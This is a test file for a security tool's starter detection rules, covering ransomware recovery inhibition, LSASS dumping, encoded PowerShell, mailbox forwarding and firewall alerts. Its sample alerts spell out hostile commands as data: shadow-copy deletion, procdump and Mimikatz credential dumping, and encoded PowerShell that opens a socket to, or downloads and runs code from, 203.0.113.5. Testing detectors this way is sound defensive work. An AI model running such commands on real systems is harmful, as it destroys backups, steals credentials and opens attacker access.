/** The starter rule set (detection/rules): it loads, and each rule matches its alert and not a near miss (R3). */
import { join } from 'node:path';
import { alertFields } from '../../detection/alertFields';
import { loadRuleSet } from '../../detection/sigma/ruleSet';
import { normalisedAlertSchema, type NormalisedAlertInput } from '../../domain/alert';
import { benignAlert, sampleAlert } from '../support/alerts';

const RULES_DIR = join(__dirname, '../../detection/rules');
const ruleSet = loadRuleSet(RULES_DIR);
/** The rules over alerts; the rules over raw firewall events (firewall-events/) are tested in test/ingest. */
const alertRules = ruleSet.rules.filter((rule) => !rule.file.startsWith('firewall-events/'));

type Product = 'm365' | 'endpoint' | 'firewall';
type AlertCase = [description: string, alert: Partial<NormalisedAlertInput>];

interface StarterCase {
  file: string;
  level: 'informational' | 'low' | 'medium' | 'high' | 'critical';
  product: Product;
  matching: AlertCase[];
  notMatching: AlertCase[];
}

const base64Utf16 = (script: string) => Buffer.from(script, 'utf16le').toString('base64');
const proc = (commandLine: string, imagePath?: string) => ({ processes: [{ commandLine, ...(imagePath ? { imagePath } : {}) }] });
const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';

const CASES: StarterCase[] = [
  {
    file: 'endpoint/ransomware-recovery-inhibition.yml',
    level: 'critical',
    product: 'endpoint',
    matching: [
      ['vssadmin deletes all shadow copies', { entities: proc('vssadmin.exe Delete Shadows /All /Quiet') }],
      ['wbadmin deletes the backup catalog', { entities: proc('wbadmin DELETE CATALOG -quiet') }],
      ['WMI deletes shadow copies', { entities: proc('wmic.exe shadowcopy delete /nointeractive') }],
      ['bcdedit switches off recovery', { entities: proc('bcdedit /set {default} recoveryenabled No') }],
      ['the EDR names it only in the description', { title: 'Ransomware behaviour', description: 'Volume shadow copies were deleted on WS-0231' }],
    ],
    notMatching: [
      ['vssadmin only lists shadow copies', { entities: proc('vssadmin.exe list shadows') }],
      ['wbadmin starts a backup', { entities: proc('wbadmin start backup -backupTarget:E:') }],
    ],
  },
  {
    file: 'endpoint/credential-dumping-lsass.yml',
    level: 'critical',
    product: 'endpoint',
    matching: [
      ['procdump -ma of lsass', { entities: proc('procdump64.exe -accepteula -ma lsass.exe C:\\Users\\Public\\l.dmp') }],
      ['procdump /ma of lsass', { entities: proc('procdump.exe /ma lsass.exe out.dmp') }],
      ['comsvcs.dll MiniDump of lsass', { entities: proc('rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full') }],
      ['Mimikatz commands', { entities: proc('mimi.exe "privilege::debug" "sekurlsa::logonpasswords" exit') }],
      ['the Mimikatz binary', { entities: { files: [{ name: 'MIMIKATZ.EXE' }] } }],
    ],
    notMatching: [
      ['procdump of another process', { entities: proc('procdump64.exe -ma notepad.exe') }],
      ['lsass named without a dump tool', { entities: proc('tasklist /fi "imagename eq lsass.exe"') }],
    ],
  },
  {
    file: 'endpoint/powershell-encoded-command.yml',
    level: 'high',
    product: 'endpoint',
    matching: [
      ['-enc with a script starting with $', { entities: proc(`powershell.exe -NoP -W Hidden -enc ${base64Utf16('$c = New-Object Net.Sockets.TCPClient("203.0.113.5", 443)')}`, POWERSHELL) }],
      ['-EncodedCommand written with a slash', { entities: proc(`powershell.exe /EncodedCommand ${base64Utf16('IEX (iwr http://203.0.113.5/a)')}`, POWERSHELL) }],
      [
        'DownloadString encoded inside the command line, without -enc',
        { entities: proc(`pwsh -c "[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('${base64Utf16("x=1; (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a')")}'))"`) },
      ],
    ],
    notMatching: [
      ['a plain script file', { entities: proc('powershell.exe -ExecutionPolicy Bypass -File C:\\Scripts\\inventory.ps1', POWERSHELL) }],
      ['-enc outside PowerShell', { entities: proc(`cmd.exe /c echo -enc ${base64Utf16('$c = 1')}`, 'C:\\Windows\\System32\\cmd.exe') }],
      ['-enc with a payload that does not look like script text', { entities: proc('powershell.exe -enc dGVzdA==', POWERSHELL) }],
    ],
  },
  {
    file: 'm365/atypical-sign-in.yml',
    level: 'medium',
    product: 'm365',
    matching: [
      ['impossible travel', { title: 'Impossible travel activity' }],
      ['atypical travel', { title: 'Atypical travel' }],
      ['unfamiliar sign-in properties', { title: 'Unfamiliar sign-in properties' }],
    ],
    notMatching: [['an ordinary sign-in', { title: 'Successful sign-in from a known location' }]],
  },
  {
    file: 'm365/mailbox-forwarding-external.yml',
    level: 'high',
    product: 'm365',
    matching: [
      ['forwarding to an external address', { title: 'Suspicious email forwarding activity', description: 'An inbox rule forwards mail to an external address.' }],
      ['ForwardingSmtpAddress set to another domain', { title: 'New inbox rule', description: 'Set-Mailbox ForwardingSmtpAddress: smtp:boss@evil.example' }],
    ],
    notMatching: [
      ['forwarding inside the organisation', { title: 'Forwarding rule created', description: 'Mail is forwarded to a colleague in the same tenant.' }],
      ['an external address without a forwarding rule', { title: 'Email sent to many recipients', description: 'Messages went to external recipients.' }],
    ],
  },
  {
    file: 'm365/malware-remediated.yml',
    level: 'low',
    product: 'm365',
    matching: [
      ['malware prevented', { title: "'Wacatac' malware was prevented", description: 'Microsoft Defender Antivirus blocked the file.' }],
      ['a trojan quarantined', { title: 'Trojan detected', description: 'The file was quarantined.' }],
    ],
    notMatching: [
      ['malware that could not be quarantined', { title: "'Wacatac' malware was detected", description: 'Remediation failed: the file could not be quarantined.' }],
      ['malware detected without remediation', { title: "'Wacatac' malware was detected", description: 'The file is still on disk.' }],
    ],
  },
  {
    file: 'm365/break-glass-sign-in.yml',
    level: 'high',
    product: 'm365',
    matching: [
      ['sign-in by the break-glass account', { title: 'Sign-in by emergency access account', entities: { users: [{ name: 'BreakGlass01' }] } }],
      ['logon by UPN only', { title: 'User logged on from a new device', entities: { users: [{ name: 'Emergency Admin', upn: 'emergency-access@nordwind.example' }] } }],
    ],
    notMatching: [
      ['sign-in by an ordinary user', { title: 'Sign-in from a new device', entities: { users: [{ name: 'j.becker' }] } }],
      ['the break-glass account changed, no sign-in', { title: 'Password changed', entities: { users: [{ name: 'breakglass01' }] } }],
    ],
  },
  {
    file: 'm365/admin-account-disabled.yml',
    level: 'high',
    product: 'm365',
    matching: [
      ['an adm- account disabled', { title: 'User account disabled', entities: { users: [{ name: 'adm-jbecker' }] } }],
      ['the title names the administrator', { title: 'Global Administrator account was disabled', entities: { users: [{ name: 'j.becker' }] } }],
    ],
    notMatching: [
      ['an ordinary account disabled', { title: 'User account disabled', entities: { users: [{ name: 'j.becker' }] } }],
      ['an admin account enabled', { title: 'User account enabled', entities: { users: [{ name: 'adm-jbecker' }] } }],
    ],
  },
  {
    file: 'firewall/c2-known-bad-ranges.yml',
    level: 'high',
    product: 'firewall',
    matching: [
      ['traffic to 198.51.100.0/24', { title: 'Outbound connection allowed', entities: { ips: [{ address: '10.0.0.5', role: 'source' }, { address: '198.51.100.23', role: 'destination' }] } }],
      ['traffic to the IPv6 range', { title: 'Outbound connection allowed', entities: { ips: [{ address: '2001:db8:c2::15', role: 'destination' }] } }],
    ],
    notMatching: [
      ['the listed network as source, not destination', { title: 'Inbound connection blocked', entities: { ips: [{ address: '203.0.113.9', role: 'source' }, { address: '192.0.2.10', role: 'destination' }] } }],
      ['traffic to a neighbouring network', { title: 'Outbound connection allowed', entities: { ips: [{ address: '203.0.114.1', role: 'destination' }] } }],
    ],
  },
  {
    file: 'firewall/port-scan.yml',
    level: 'low',
    product: 'firewall',
    matching: [
      ['a portscan from a source address', { title: 'Portscan detected', entities: { ips: [{ address: '192.0.2.44', role: 'source' }] } }],
      ['a host sweep', { title: 'Host sweep from external address', entities: { ips: [{ address: '192.0.2.44', role: 'source' }] } }],
    ],
    notMatching: [
      ['the authorised vulnerability scan', { title: 'Port scan detected', description: 'Authorised vulnerability scan by the SOC scanner', entities: { ips: [{ address: '192.0.2.44', role: 'source' }] } }],
      ['a scan without a source address', { title: 'Port scan detected' }],
      ['a word that only contains the pattern', { title: 'Airport scanner update', entities: { ips: [{ address: '192.0.2.44', role: 'source' }] } }],
    ],
  },
  {
    file: 'all-sources/brute-force-password-spray.yml',
    level: 'medium',
    product: 'm365',
    matching: [
      ['a password spray', { title: 'Password spray attack detected' }],
      ['brute force against an account', { title: 'Brute-force attempt against j.becker' }],
    ],
    notMatching: [['one failed sign-in', { title: 'Failed sign-in' }]],
  },
];

function matchedFiles(overrides: Partial<NormalisedAlertInput>, product: string): string[] {
  const alert = normalisedAlertSchema.parse({
    tenantId: 'nordwind-handel',
    source: product === 'm365' ? 'defender' : product === 'endpoint' ? 'edr' : 'opnsense-fw1',
    externalId: 'starter-rule-case',
    title: 'Alert',
    observedAt: '2026-11-26T08:41:12Z',
    ...overrides,
  });
  return ruleSet.evaluate(alertFields(alert), { product, category: 'alert' }).map((match) => match.file);
}

describe('starter rules', () => {
  test('R3 every starter rule loads, and each has its cases below', () => {
    expect(alertRules.length).toBe(CASES.length);
    expect(alertRules.map((rule) => rule.file).sort()).toEqual(CASES.map((c) => c.file).sort());
  });

  test('R3 the starter rules use the products m365, endpoint and firewall, for alerts', () => {
    for (const rule of alertRules) {
      expect(rule.logsource.category).toBe('alert');
      if (rule.logsource.product !== undefined) expect(['m365', 'endpoint', 'firewall']).toContain(rule.logsource.product);
    }
  });

  test('R2 each starter rule has the level its threat calls for', () => {
    for (const { file, level } of CASES) expect(ruleSet.rules.find((rule) => rule.file === file)?.level).toBe(level);
  });

  test('R3 the rule-less benign test alert matches no starter rule, whatever its product', () => {
    for (const product of ['m365', 'endpoint', 'firewall']) {
      expect(ruleSet.evaluate(alertFields(normalisedAlertSchema.parse(benignAlert())), { product, category: 'alert' })).toEqual([]);
    }
  });

  test('R3 the LSASS sample alert is classified critical by the credential dumping rule', () => {
    const matches = ruleSet.evaluate(alertFields(normalisedAlertSchema.parse(sampleAlert())), { product: 'endpoint', category: 'alert' });
    expect(matches.map((m) => [m.file, m.level])).toEqual([['endpoint/credential-dumping-lsass.yml', 'critical']]);
  });

  test('R3 a rule for one product does not run on alerts of another', () => {
    const lsass: Partial<NormalisedAlertInput> = { entities: proc('procdump64.exe -ma lsass.exe') };
    expect(matchedFiles(lsass, 'endpoint')).toContain('endpoint/credential-dumping-lsass.yml');
    expect(matchedFiles(lsass, 'firewall')).toEqual([]);
  });

  test('R3 a rule without product runs on alerts of every product', () => {
    for (const product of ['m365', 'endpoint', 'firewall']) {
      expect(matchedFiles({ title: 'Password spray attack detected' }, product)).toEqual(['all-sources/brute-force-password-spray.yml']);
    }
  });

  describe.each(CASES)('$file', ({ file, product, matching, notMatching }) => {
    test.each(matching)(`R3 matches: %s`, (_name, alert) => {
      expect(matchedFiles(alert, product)).toContain(file);
    });
    test.each(notMatching)(`R3 does not match: %s`, (_name, alert) => {
      expect(matchedFiles(alert, product)).not.toContain(file);
    });
  });
});
